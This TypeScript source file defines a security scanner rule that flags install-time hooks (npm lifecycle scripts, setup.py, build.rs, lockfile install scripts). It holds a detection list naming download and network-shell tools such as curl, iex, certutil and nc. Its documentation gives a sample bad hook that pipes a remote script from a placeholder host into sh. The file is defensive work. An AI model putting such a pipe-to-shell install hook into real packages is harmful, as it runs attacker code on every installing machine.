import { displayName } from '../../deps/names';
import type { Rule } from '../types';
import { dependencyAnalysis, isManifestPath, show } from './shared';

/** Programs and calls that fetch or decode code to run: worth reporting even in a plain scan. */
const FETCHERS = new Set(['curl', 'wget', 'iwr', 'invoke-webrequest', 'invoke-expression', 'iex', 'certutil', 'bitsadmin', 'powershell', 'pwsh', 'eval', 'base64', 'nc', 'ncat', 'urlopen', 'urlretrieve', 'b64decode', 'exec', 'requests.get', 'requests.post']);
/** Interpreters that run code given inline: `node -e`, `sh -c`, `python -c`. */
const INLINE_RUNNERS = new Set(['node -e', 'node -eval', 'node -p', 'sh -c', 'bash -c', 'python -c', 'python3 -c', 'perl -e', 'ruby -e']);

/** True when a command downloads, decodes or evaluates code. A word scan: no regex to backtrack. */
export function fetchesOrEvaluates(command: string): boolean {
  const lower = command.toLowerCase();
  if (lower.includes('http://') || lower.includes('https://')) return true;
  const words = lower.split(/[^a-z0-9_.-]+/).filter(Boolean);
  for (let i = 0; i < words.length; i++) {
    if (FETCHERS.has(words[i]) || FETCHERS.has(words[i].replace(/\.exe$/, ''))) return true;
    if (i + 1 < words.length && INLINE_RUNNERS.has(`${words[i]} -${words[i + 1].replace(/^-+/, '')}`)) return true;
  }
  return false;
}

/** Code that a package manager runs by itself on install or build. */
export const installScript: Rule = {
  meta: {
    id: 'dependencies/install-script',
    category: 'dependency',
    severity: 'high',
    confidence: 'high',
    cwe: [506, 829],
    changeAware: true,
    docs: {
      summary: 'Install-time code was added or changed: an npm lifecycle script, a setup.py that runs commands, a build.rs, or a lockfile package that runs an install script.',
      why: 'Install and build hooks run automatically, with the developer’s rights, on every machine that installs the project — before anyone runs or reviews the code. Most supply-chain attacks start there.',
      fix: 'Read the command in full. Remove it unless the project needs it; prefer an explicit script people run by choice (`npm run setup`), and install with `--ignore-scripts` where possible.',
      example: { bad: '"postinstall": "curl -s https://example.invalid/x.sh | sh"', good: '"setup": "node scripts/setup.js"' },
    },
    messages: {
      hook: '{{kind}} `{{name}}` runs at install time: {{command}}',
      buildRs: 'build.rs runs on every cargo build of this crate',
      lockScript: 'New locked package {{name}} runs an install script',
    },
  },
  appliesToPath: isManifestPath,
  check(context) {
    const analysis = dependencyAnalysis(context);
    if (!analysis) return;
    const scan = analysis.mode === 'scan';
    for (const hook of analysis.hooks) {
      const risky = fetchesOrEvaluates(hook.command);
      // A plain scan reports only hooks that fetch or evaluate code; in a diff, every new or changed hook.
      if (scan && !risky) continue;
      if (analysis.kind === 'build.rs') {
        if (scan) continue;
        context.report({
          messageId: 'buildRs',
          start: hook.span.start,
          end: hook.span.end,
          explanation: 'The change adds or edits build.rs. Cargo compiles and runs it on every build, on every machine that builds this crate, with the developer’s rights. Read all of it: what it executes, downloads, and writes outside OUT_DIR.',
        });
        continue;
      }
      const kind = analysis.kind === 'setup.py' ? 'setup.py' : analysis.kind === 'Cargo.toml' ? 'Cargo build script' : analysis.kind === 'csproj' ? 'MSBuild target' : analysis.kind === 'composer.json' ? 'Composer script' : 'Lifecycle script';
      const command = displayName(hook.command);
      context.report({
        messageId: 'hook',
        data: { kind, name: hook.name, command },
        severity: scan && analysis.kind === 'setup.py' ? 'medium' : undefined,
        start: hook.span.start,
        end: hook.span.end,
        explanation: `${scan ? 'This manifest has' : 'The change adds or edits'} ${kind.toLowerCase()} \`${hook.name}\`, which runs \`${command}\` automatically when the project is installed or built, with the rights of whoever installs it.${risky ? ' The command fetches, decodes or evaluates code, as install-time malware does.' : ''} Check exactly what it executes and downloads, and whether it needs to run on install at all.`,
      });
    }
    if (analysis.manifest.lockfile && !scan) {
      for (const dep of analysis.subject) {
        if (!dep.hasInstallScript || analysis.knewBefore(dep.name)) continue;
        context.report({
          messageId: 'lockScript',
          data: { name: show(dep.name) },
          severity: 'medium',
          start: dep.span.start,
          end: dep.span.end,
          explanation: `The lockfile now installs ${show(dep.name)} ${dep.spec}, which declares an install script: it will run code on every \`npm install\`. Check the package's install script, its publisher and why it is pulled in.`,
        });
      }
    }
  },
  patterns: [/[^a-z0-9_.-]+/, /\.exe$/, /^-+/],
};
